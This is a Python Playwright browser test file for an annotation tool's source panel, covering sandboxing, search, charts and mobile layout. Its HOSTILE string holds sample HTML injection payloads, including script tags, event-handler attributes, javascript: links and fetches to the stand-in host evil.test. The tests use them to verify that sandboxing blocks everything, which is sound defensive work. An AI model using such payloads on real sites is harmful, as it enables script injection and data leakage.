"""The source beside the text can be read and searched, and its HTML cannot run anything."""

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from spanplat.rendering.hypertext import isolated
from tests.browser.accessibility import require_accessible
from tests.browser.annotator.person import Annotator, AnnotatorIn, OpenStudy

pytestmark = pytest.mark.browser

TEXT = "The hotel is near the river."

HOSTILE = """
<h1 id="text" class="panel" onclick="top.run = 1">Rooms and rates</h1>
<script>parent.run = 1; fetch("https://evil.test/script")</script>
<img src="https://evil.test/pixel.png" onerror="parent.run = 1"><img src=x onerror="parent.run = 1">
<style>@import "https://evil.test/style.css"; body { background: url(https://evil.test/bg.png) } #text { display: none }</style>
<link rel="stylesheet" href="https://evil.test/link.css"><link rel="prefetch" href="https://evil.test/prefetch">
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
<form action="https://evil.test/form"><input name="a" autofocus onfocus="parent.run = 1"><button>Send</button></form>
<div style="position: fixed; inset: 0; z-index: 99999; background: red">cover</div>
<a href="javascript:parent.run = 1">inside</a> <a href="https://evil.test/link" target="_top">outside</a>
<svg onload="parent.run = 1"><image href="https://evil.test/svg.png"/></svg>
<video autoplay src="https://evil.test/video"></video><audio src="https://evil.test/audio" autoplay></audio>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object>
<p>The last <b>li</b>ne.</p>
"""


def listen(page: Page) -> list[str]:
    """Keep every request that leaves for elsewhere, and let none out."""
    left: list[str] = []

    def stop(route: Route, request: Request) -> None:
        left.append(request.url)
        route.abort()

    page.context.route(lambda address: "127.0.0.1" not in address and not address.startswith("data:"), stop)
    return left


def require_untouched(page: Page, left: list[str]) -> None:
    """Nothing ran, nothing left, and the page looks and works as ever."""
    assert left == []
    assert page.evaluate("globalThis.run") is None
    assert page.evaluate("document.elementFromPoint(innerWidth - 200, 120).closest('#marking') !== null")
    assert page.evaluate("getComputedStyle(document.body).backgroundImage") == "none"
    expect(page.locator("#text")).to_be_visible()
    assert len(page.context.pages) == 1


def test_html_of_a_source_can_be_read_and_searched_but_do_nothing(annotator: Annotator, open_study: OpenStudy) -> None:
    page = annotator.page
    left = listen(page)
    annotator.begin(open_study(TEXT, source={"page": HOSTILE}))
    frame = page.frame_locator("#source iframe")
    expect(frame.get_by_role("heading")).to_have_text("Rooms and rates")
    expect(page.locator("#source iframe.styled")).to_be_visible()
    for link in ("inside", "outside"):
        frame.get_by_text(link).click()
    page.get_by_label("Find in the source").fill("last line")
    expect(page.locator("#found")).to_have_text("1 / 1")
    require_untouched(page, left)
    frame.get_by_text("cover").click()
    page.keyboard.press("?")  # keys pressed in the frame are the page's
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("Escape")
    annotator.mark("hotel")
    assert annotator.stored() == [("hotel", "incorrect")]
    require_accessible(page)


def test_the_frame_alone_stops_what_cleaning_might_miss(browser: Browser, open_study: OpenStudy) -> None:
    # A context of its own: that the browser reports what it blocks is what this test wants.
    context = browser.new_context()
    page = context.new_page()
    left = listen(page)
    Annotator(page).begin(open_study(TEXT, source="Nothing to see."))
    page.evaluate(
        """(html) => new Promise((done) => {
          const holder = document.createElement("div");
          holder.innerHTML = html;
          const frame = holder.firstChild;
          frame.addEventListener("load", () => requestIdleCallback(() => requestIdleCallback(done)));
          document.getElementById("source").append(frame);
        })""",
        str(isolated(HOSTILE, title="Hostile")),
    )
    for link in ("inside", "outside"):
        page.frame_locator("#source iframe").get_by_text(link).click(force=True)
    page.wait_for_load_state("networkidle")
    require_untouched(page, left)
    context.close()


def test_images_come_from_allowed_hosts_alone(annotator: Annotator, open_study: OpenStudy) -> None:
    page = annotator.page
    left = listen(page)
    source = {"photo": "https://images.example.org/river.png", "logo": "https://tracker.test/logo.png"}
    data = {"dataset": "hotels", "source": {"image_hosts": ["images.example.org"]}}
    with page.expect_request("https://images.example.org/river.png"):
        annotator.begin(open_study(TEXT, source=source, data=data))
    expect(page.get_by_role("img", name="photo")).to_be_attached()
    expect(page.get_by_text("https://tracker.test/logo.png")).to_be_visible()
    assert left == ["https://images.example.org/river.png"]


VIEWS = {f"room {number}": "the yard" for number in range(40)} | {"suite": "the Hudson"}
SEARCHED = {
    "name": "Château Rïverside",
    "views": VIEWS,
    "rooms": [{"kind": "suite", "beds": 2}, {"kind": "single", "beds": 1}],
    "page": "<p>A su<b>ite</b> above the river.</p>",
}


def test_finding_counts_and_walks_through_all_places_ignoring_case_and_accents(
    annotator: Annotator, open_study: OpenStudy
) -> None:
    page = annotator.page
    annotator.begin(open_study(TEXT, source=SEARCHED))
    expect(page.locator("#source iframe.styled")).to_be_attached()
    page.keyboard.press("/")
    page.keyboard.type("CHATEAU river")
    expect(page.locator("#found")).to_have_text("1 / 1")
    page.get_by_label("Find in the source").fill("suite")
    expect(page.locator("#found")).to_have_text("1 / 3")
    expect(page.get_by_text("the Hudson")).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.locator("#found")).to_have_text("2 / 3")
    expect(page.get_by_role("cell", name="suite")).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.frame_locator("#source iframe").get_by_text("above the river")).to_be_in_viewport()
    page.keyboard.press("Shift+Enter")
    expect(page.locator("#found")).to_have_text("2 / 3")
    page.get_by_role("button", name="The next place").click()
    expect(page.locator("#found")).to_have_text("3 / 3")
    assert page.evaluate("[CSS.highlights.get('found').size, CSS.highlights.get('found-current').size]") == [2, 0]
    page.get_by_label("Find in the source").press("Escape")
    expect(page.get_by_label("Find in the source")).to_have_value("")
    expect(page.locator("#found")).to_be_empty()
    assert page.evaluate("CSS.highlights.get('found').size") == 0
    page.get_by_label("Find in the source").fill("nowhere")
    expect(page.locator("#found")).to_have_text("0")
    require_accessible(page)


def test_where_nothing_can_be_highlighted_boxes_show_what_was_found(
    annotator: Annotator, open_study: OpenStudy
) -> None:
    page = annotator.page
    page.add_init_script("Object.defineProperty(CSS, 'highlights', { value: undefined })")
    annotator.begin(open_study(TEXT, source="near the river, by the river"))
    page.get_by_label("Find in the source").fill("river")
    expect(page.locator(".found-boxes span")).to_have_count(2)
    box = page.locator(".found-boxes .current").bounding_box()
    assert box is not None
    assert box["width"] > 20


def test_a_long_text_is_scrolled_to_the_place_that_was_found(annotator: Annotator, open_study: OpenStudy) -> None:
    page = annotator.page
    annotator.begin(
        open_study(TEXT, source="Many words stand here. " * 800 + "The needle. " + "And more follow. " * 400)
    )
    page.get_by_label("Find in the source").fill("needle")
    expect(page.locator("#found")).to_have_text("1 / 1")
    place = page.evaluate(
        """() => {
          const [range] = CSS.highlights.get("found-current");
          const { top, bottom } = range.getBoundingClientRect();
          return [top, bottom, innerHeight];
        }"""
    )
    assert 60 < place[0] < place[1] < place[2]


def test_a_series_is_a_chart_whose_points_tell_their_values(annotator: Annotator, open_study: OpenStudy) -> None:
    days = [{"date": f"2025-02-{day}", "temp": day * 1.5} for day in range(10, 16)]
    annotator.begin(open_study(TEXT, source={"forecast": days}))
    page = annotator.page
    chart = page.get_by_role("img", name="Chart: temp")
    expect(chart.locator("title").first).to_have_text("2025-02-10: temp 15.0")
    expect(chart.locator("title")).to_have_count(6)
    expect(page.get_by_role("table", name="")).to_be_visible()
    require_accessible(page)


def test_the_next_item_brings_its_own_source(annotator: Annotator, open_study: OpenStudy) -> None:
    annotator.begin(open_study(TEXT, "Another text.", source={"page": "<p>Rooms</p>", "name": "Riverside"}))
    page = annotator.page
    page.get_by_label("Find in the source").fill("rooms")
    expect(page.locator("#found")).to_have_text("1 / 1")
    page.get_by_role("button", name="2", exact=True).or_(page.locator("#strip [data-position='2']")).first.click()
    expect(page.locator("#progress")).to_have_text("2 of 2")
    expect(page.frame_locator("#source iframe").get_by_text("Rooms")).to_be_visible()
    expect(page.locator("#found")).to_have_text("1")


PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_on_a_phone_the_source_waits_behind_a_button_with_a_badge(
    annotator_in: AnnotatorIn, open_study: OpenStudy, theme: str
) -> None:
    annotator = annotator_in(**PHONE, color_scheme=theme)
    page = annotator.page
    annotator.begin(open_study(TEXT, source=SEARCHED))
    expect(page.locator("#text")).to_be_in_viewport()
    expect(page.locator("#source")).to_be_hidden()
    button = page.get_by_role("button", name="Source")
    expect(button.get_by_role("img", name="not looked at yet")).to_be_visible()
    require_accessible(page)
    button.tap()
    expect(page.locator("#source")).to_be_visible()
    expect(page.locator("#text")).to_be_hidden()
    expect(button).to_have_attribute("aria-pressed", "true")
    require_accessible(page)
    page.get_by_role("button", name="Text", exact=True).tap()
    expect(page.locator("#text")).to_be_visible()
    expect(button.get_by_role("img")).to_be_hidden()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_on_a_narrow_page_a_link_leads_to_the_source_and_back(annotator_in: AnnotatorIn, open_study: OpenStudy) -> None:
    page = annotator_in(viewport={"width": 700, "height": 700}).begin(open_study(TEXT * 40, source=SEARCHED)).page
    expect(page.locator("#source")).not_to_be_in_viewport()
    page.get_by_role("link", name="Source").click()
    expect(page.locator("#source")).to_be_in_viewport()
    page.get_by_role("link", name="Text ↑").click()
    expect(page.locator("#text")).to_be_in_viewport()


def test_the_divider_follows_a_finger_and_the_home_and_end_keys(
    annotator_in: AnnotatorIn, open_study: OpenStudy
) -> None:
    annotator = annotator_in(viewport={"width": 1180, "height": 820}, has_touch=True)
    page = annotator.begin(open_study(TEXT, source=SEARCHED)).page
    divider = page.get_by_role("separator", name="Width of the source")
    box = divider.bounding_box()
    assert box is not None
    session = page.context.new_cdp_session(page)
    y = box["y"] + 200
    for kind, x in (("touchStart", box["x"] + 3), ("touchMove", 590.0), ("touchEnd", None)):
        points = [] if x is None else [{"x": x, "y": y}]
        session.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})
    expect(divider).to_have_attribute("aria-valuenow", "50")
    divider.press("Home")
    expect(divider).to_have_attribute("aria-valuenow", "20")
    divider.press("End")
    expect(divider).to_have_attribute("aria-valuenow", "75")
